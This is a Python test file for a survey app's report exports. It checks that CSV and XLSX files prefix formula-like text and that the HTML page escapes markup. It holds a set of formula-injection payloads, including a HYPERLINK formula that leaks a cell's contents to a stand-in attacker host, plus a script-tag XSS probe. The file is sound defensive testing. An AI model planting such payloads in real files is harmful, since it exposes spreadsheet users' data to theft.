"""Exports cannot carry formulas: roster names and follow-up notes that a spreadsheet would run are written as
inert text in every CSV and XLSX export, numbers stay numbers, and the printed page escapes them."""

from __future__ import annotations

import copy
import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from campaigns.followups import mark_followup, sync_followups
from campaigns.models import FollowUp, RoundStatus
from campaigns.questionnaire import builtin_questionnaire, parse_questionnaire, store_version
from reports.cli import report_group
from tests.factories import interview_answers, make_cadre, make_household, make_interview, make_round, make_village

# One of each start a spreadsheet reads as a formula (OWASP): =, +, -, @, tab, carriage return.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&D4,"详情")',
    "+SUM(1,2)",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_LABEL = "@平安建设知晓率"  # a questionnaire's rate label lands in the headers
NUMBER = re.compile(r"^-?\d+(\.\d+)?%?$")


def run(*args: str) -> None:
    result = CliRunner().invoke(report_group, list(args))
    assert result.exit_code == 0, result.output


@pytest.fixture
def hostile(session: Session):
    """Six villages, cadres and households named with a payload each; round B's follow-up notes carry them too.

    In round A everybody is satisfied; in round B half of each village is not and asks for a visit, so every
    village's satisfaction falls (a negative change, which must stay a number).
    """
    content = copy.deepcopy(dict(builtin_questionnaire().content))
    content["rates"]["awareness"]["label"] = HOSTILE_LABEL
    version = store_version(session, parse_questionnaire(content, "hostile"))
    start = datetime(2026, 1, 1, tzinfo=UTC)
    a = make_round(session, name="上一轮", status=RoundStatus.COMPLETED, launched_at=start, created_at=start)
    b = make_round(session, name="本轮", status=RoundStatus.COMPLETED, questionnaire_id=version.id)
    for payload in PAYLOADS:
        village = make_village(session, name=payload)
        cadre = make_cadre(session, name=payload)
        for _ in range(4):
            make_interview(session, a, interview_answers(), village=village, cadre=cadre)
        for index in range(4):
            household = make_household(session, village=village, cadre=cadre, name=payload)
            unhappy = interview_answers(satisfaction="4", visit="1") if index < 2 else interview_answers()
            make_interview(session, b, unhappy, household=household)
    sync_followups(session, b.id)
    items = session.scalars(select(FollowUp).order_by(FollowUp.id)).all()
    # The demonstrated attack comes in through the visit note a cadre types; the others are stored as they are
    # (recording a visit trims the note, and the export must hold whatever the database holds).
    mark_followup(session, items[0].id, "visited", PAYLOADS[0], actor="林建明")
    for item, payload in zip(items[1:], PAYLOADS[1:] * 2, strict=False):
        item.note = payload
    session.commit()
    return a.id, b.id


def exports(tmp_path: Path, a: int, b: int) -> dict[str, Path]:
    """Every export, written by the commands."""
    commands = {
        "rates": ["rates", str(b)],
        "compare": ["compare", str(a), str(b)],
        "followups": ["followups", str(b)],
        "cadres": ["cadres", str(b)],
    }
    paths = {}
    for name, args in commands.items():
        for fmt in ("csv", "xlsx"):
            path = tmp_path / f"{name}.{fmt}"
            run(*args, "--format", fmt, "--output", str(path))
            paths[f"{name}.{fmt}"] = path
    return paths


# What each export must show, neutralised: the names it lists and the notes.
EXPECTED = {
    "rates": PAYLOADS,  # villages
    "compare": PAYLOADS,  # villages
    "followups": PAYLOADS,  # villages, households, cadres, notes
    "cadres": PAYLOADS,  # cadres, villages
}


def neutralised(payload: str) -> str:
    return "'" + payload


def test_xlsx_exports_have_no_formula_and_hold_the_text_as_strings(hostile, env, tmp_path: Path) -> None:
    paths = exports(tmp_path, *hostile)

    for name, expected in EXPECTED.items():
        book = load_workbook(paths[f"{name}.xlsx"])
        texts: set[str] = set()
        numbers = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s", (name, sheet.title, cell.coordinate)
                        assert not cell.value.startswith(FORMULA_STARTS), (name, sheet.title, cell.coordinate)
                        texts.add(cell.value)
                    elif isinstance(cell.value, int | float):
                        numbers.append(cell.value)
        missing = [payload for payload in expected if neutralised(payload) not in texts]
        assert not missing, (name, missing)
        assert numbers, name  # figures are still numbers
    # The hostile rate label is neutralised where it heads a column.
    headers = [c.value for c in load_workbook(paths["rates.xlsx"])["各村三率"][1]]
    assert neutralised(HOSTILE_LABEL) in headers
    # A fall is a negative number, not text.
    compare = load_workbook(paths["compare.xlsx"])["两轮对比"]
    header = [c.value for c in compare[1]]
    falls = [row[header.index("执法满意率变化")] for row in compare.iter_rows(min_row=2)]
    assert falls and all(cell.data_type == "n" and cell.value < 0 for cell in falls)


def test_csv_exports_quote_and_prefix_the_text(hostile, env, tmp_path: Path) -> None:
    paths = exports(tmp_path, *hostile)

    for name, expected in EXPECTED.items():
        raw = paths[f"{name}.csv"].read_bytes().decode("utf-8")
        assert raw.startswith("\ufeff")
        for payload in expected:
            field = '"' + neutralised(payload).replace('"', '""') + '"'
            assert field in raw, (name, payload)
        rows = list(csv.reader(io.StringIO(raw.removeprefix("\ufeff"), newline="")))
        # Every field is quoted: as many quoted fields as cells.
        assert raw.count('","') == sum(len(row) - 1 for row in rows), name
        for row in rows:
            for cell in row:
                # Only a number may start with "-": everything else that could run is prefixed.
                assert not cell.startswith(FORMULA_STARTS) or NUMBER.match(cell), (name, cell)
        assert any(cell == neutralised(PAYLOADS[0]) for row in rows for cell in row), name
    header = next(csv.reader(io.StringIO(paths["rates.csv"].read_text(encoding="utf-8-sig"))))
    assert neutralised(HOSTILE_LABEL) + "比率" in header
    compare = list(csv.DictReader(io.StringIO(paths["compare.csv"].read_text(encoding="utf-8-sig"))))
    falls = [row["执法满意率变化"] for row in compare if row["村"] != "全镇"]
    assert falls == ["-50.0%"] * len(PAYLOADS)  # numbers stay numbers, minus sign and all


def test_the_api_downloads_are_neutralised_too(hostile, settings) -> None:
    from campaigns import accounts
    from campaigns.db import session_scope
    from campaigns.runtime import Runtime
    from tests.web.conftest import PASSWORD, sign_in
    from web.app import create_app

    runtime = Runtime(settings)
    app = create_app(runtime)
    try:
        with session_scope(runtime.sessions) as session:
            accounts.create_user(session, "office1", "office", PASSWORD)
        client = app.test_client()
        assert sign_in(client, "office1").status_code == 302
        _a, b = hostile
        raw = client.get(f"/api/rounds/{b}/followups?format=csv").data.decode("utf-8")
        book = load_workbook(io.BytesIO(client.get(f"/api/rounds/{b}/followups?format=xlsx").data))
        as_json = client.get(f"/api/rounds/{b}/followups").get_json()
    finally:
        runtime.dispose()

    assert '"' + neutralised(PAYLOADS[0]).replace('"', '""') + '"' in raw
    notes = [row[11].value for row in book["整改回访"].iter_rows(min_row=2)]
    assert neutralised(PAYLOADS[0]) in notes
    # JSON is not a spreadsheet: it carries the text exactly as stored.
    assert PAYLOADS[0] in [item["note"] for item in as_json["items"]]


def test_the_printed_page_escapes_names(session: Session, env, tmp_path: Path) -> None:
    round_ = make_round(session, name="<b>本轮</b>", status=RoundStatus.COMPLETED)
    names = [*PAYLOADS[:4], "<script>alert(1)</script>"]
    for name in names:
        village = make_village(session, name=name)
        household = make_household(session, village=village, name=name)
        make_interview(session, round_, interview_answers("4", visit="1"), household=household)
    round_id = round_.id
    session.commit()
    path = tmp_path / "report.html"

    run("rates", str(round_id), "--format", "html", "--output", str(path))

    html = path.read_text(encoding="utf-8")
    assert "<script" not in html and "<b>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "&lt;b&gt;本轮&lt;/b&gt;" in html
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;D4,&quot;详情&quot;)" in html
    assert not re.search(r"<(link|script|img)\b", html)


def test_xlsx_keeps_text_that_looks_like_an_error_or_holds_control_characters(session: Session) -> None:
    from reports.followups import followup_report
    from reports.render import render_bytes
    from tests.reports.scenarios import visits_township

    visits = visits_township(session)
    sync_followups(session, visits.round.id)
    first, second, *_ = session.scalars(select(FollowUp).order_by(FollowUp.id)).all()
    first.note, second.note = "#N/A", "已上门\x07"  # a bell cannot be stored in XLSX at all
    session.flush()

    sheet = load_workbook(io.BytesIO(render_bytes(followup_report(session, visits.round.id), "xlsx")))["整改回访"]

    notes = {row[11].value: row[11].data_type for row in sheet.iter_rows(min_row=2) if row[11].value}
    assert notes == {"#N/A": "s", "已上门\ufffd": "s"}
